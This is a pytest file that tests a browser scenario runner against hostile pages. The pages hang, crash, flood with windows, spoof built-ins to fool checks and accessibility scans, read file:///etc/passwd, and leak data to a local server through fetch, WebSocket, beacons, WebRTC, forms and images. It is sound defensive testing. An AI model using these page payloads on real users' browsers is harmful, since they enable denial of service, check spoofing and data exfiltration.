"""Attack: a subject whose pages aim at the browser that looks at them: they hang, crash, flood,
vanish, and reach out. None may pass, none may hold up the run, and nothing may leave."""

from __future__ import annotations

import importlib.util
import json
import os
import signal
import subprocess
import sys
import time
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, ClassVar

import pytest

from tests.conftest import require
from tests.scenario_runner.page_service import HEAD, address, serve

RUNNER = Path(__file__).resolve().parents[2] / "scenario-runner"
LIMIT_SECONDS = 6

REACH = """<script>
fetch('AWAY/fetch', {mode: 'no-cors'}).catch(() => 0);
new WebSocket('WS/socket'); navigator.sendBeacon('AWAY/beacon', 'x');
new RTCPeerConnection({iceServers: [{urls: 'stun:' + 'AWAY'.slice(7)}]}).createDataChannel('x');
navigator.serviceWorker.register('/worker.js');
window.open('AWAY/window'); setTimeout(() => { location = 'AWAY/location' }, 100)
</script><link rel=preconnect href=AWAY><link rel=dns-prefetch href=//leak.example>
<img src=AWAY/img><iframe src=AWAY/frame></iframe><form method=post action=AWAY/form id=f></form>
<script>f.submit()</script>"""

# What a page does, and the steps that meet it; each scenario would pass on an honest page.
# fmt: off
PAGES = {
    "alerts": "<h1>Hi</h1><script>while (true) alert('again')</script>",
    "busy": "<h1>Hi</h1><script>onload = () => { while (true); }</script>",
    "closes": "<script>open('/quiet'); close(); location = 'about:blank'</script>",
    "crash": "<script>const a = []; while (true) a.push(new Array(1e7).fill(a.length))</script>",
    "huge": "<script>for (let i = 0; i < 3e5; i++) document.write('<p>' + 'x'.repeat(99))</script>",
    "windows": "<script>setInterval(() => open('/quiet'), 1)</script>",
    "unload": "<h1>No</h1><script>onbeforeunload = onpagehide = () => { while (true); }</script>",
    "lies": "<h1 hidden>Hi</h1><img src=x><script>String.prototype.includes = () => true;"
    "RegExp.prototype.test = () => true;"
    "Array.prototype.filter = function () { return this }; Element.prototype.matches = () => true;"
    "window.axe = {run: async () => ({violations: []})}; JSON.stringify = () => '[]'</script>",
}
# fmt: on
SEEN = 'Then within 1 second the heading "Hi" is shown'
SCENARIOS = {
    **{name: f'When I open the page "/{name}"\n    {SEEN}' for name in PAGES},
    "never": f'When I open the page "/never"\n    {SEEN}',
    "file": 'When I open the page "file:///etc/passwd"\n    Then the page shows "root"',
    "lured": f'When I open the page "/lure"\n    {SEEN}',
    "axe fooled": 'When I open the page "/lies"\n    Then the page has no accessibility violations',
    "reaches": 'When I open the page "/reach"\n'
    "    Then the pages have asked nothing of other addresses",
}


class Hostile(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    away: ClassVar[str]

    def log_message(self, *_arguments: Any) -> None:
        pass

    def do_GET(self) -> None:
        name = self.path.removeprefix("/")
        if name == "never":
            time.sleep(30)
            return
        body = HEAD + "<title>x</title>" + PAGES.get(name, "quiet")
        kind = "text/html"
        if name == "reach":
            body = HEAD + REACH.replace("AWAY", self.away).replace("WS", "ws" + self.away[4:])
        if name == "worker.js":
            kind, body = "text/javascript", f"fetch('{self.away}/worker'); setInterval(() => 0, 1)"
        self.send_response(302 if name == "lure" else 200)
        self.send_header("Location", self.away + "/lured")
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body.encode())


class Away(BaseHTTPRequestHandler):
    reached: ClassVar[list[str]] = []

    def log_message(self, *_arguments: Any) -> None:
        pass

    def do_GET(self) -> None:
        self.reached.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET


@pytest.fixture(scope="module")
def hostile():
    if importlib.util.find_spec("playwright") is None:
        require("playwright")
    require("chromium")
    away, server = serve(Away), serve(Hostile)
    Hostile.away = address(away)
    yield address(server)
    server.shutdown()
    away.shutdown()


def _command(folder: Path, subject: str, scenarios: dict[str, str]) -> list[str]:
    suite = folder / "suite"
    suite.mkdir()
    text = "".join(f"  Scenario: {name}\n    {steps}\n" for name, steps in scenarios.items())
    (suite / "a.feature").write_text("Feature: F\n" + text)
    return [
        sys.executable, "-m", "scenario_runner", "run", str(suite), "--subject", subject,
        "--report", str(folder / "out"), "--scenario-timeout", str(LIMIT_SECONDS),
    ]  # fmt: skip


def _environment() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(RUNNER)}


def _browsers(folder: Path, word: str = "") -> list[str]:
    """Processes that belong to a run whose temporary files are in this folder."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            words = path.read_bytes().decode("utf-8", "replace")
        except OSError:
            continue
        if str(folder) in words and word in words:
            found.append(words[:200])
    return found


def test_no_hostile_page_passes_or_holds_up_the_run(tmp_path, hostile):
    Away.reached.clear()
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    # Another user than root goes through them.
    for folder in (*tmp_path.parents[:-2], tmp_path, scratch):
        folder.chmod(0o755)
    calm = {"calm before": 'When I open the page "/quiet"\n    Then the page shows "quiet"'}
    after = {"calm after": calm["calm before"]}
    done = subprocess.run(
        _command(tmp_path, hostile, {**calm, **SCENARIOS, **after}),
        capture_output=True,
        text=True,
        timeout=280,
        env={**_environment(), "TMPDIR": str(scratch)},
    )
    report = json.loads((tmp_path / "out/report.json").read_text())
    outcomes = {each["name"]: each["outcome"] for each in report["scenarios"]}
    assert outcomes.pop("calm before") == outcomes.pop("calm after") == "passed", outcomes
    assert set(outcomes.values()) <= {"failed", "timed_out"}, outcomes
    assert (report["verdict"], done.returncode, report["errors"]) == ("fail", 1, [])
    longest = max(each["duration_seconds"] for each in report["scenarios"])
    assert longest < LIMIT_SECONDS + 3
    assert Away.reached == [], "a page reached another server"
    blocked = (tmp_path / "out/private.jsonl").read_text()
    assert "/fetch" in blocked
    assert "root:x:0" not in blocked
    assert list(scratch.iterdir()) == [], "files were left behind"
    assert _browsers(scratch) == []


def test_a_run_that_is_killed_leaves_no_browser(tmp_path, hostile):
    for folder in (*tmp_path.parents[:-2], tmp_path):
        folder.chmod(0o755)
    command = _command(tmp_path, hostile, {"busy": SCENARIOS["busy"]})
    run = subprocess.Popen(
        command, env={**_environment(), "TMPDIR": str(tmp_path)}, stdout=subprocess.DEVNULL
    )
    deadline = time.monotonic() + 60
    while not _browsers(tmp_path, "--user-data-dir") and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _browsers(tmp_path, "--user-data-dir")
    run.send_signal(signal.SIGKILL)
    run.wait()
    deadline = time.monotonic() + 20
    while _browsers(tmp_path) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _browsers(tmp_path) == []
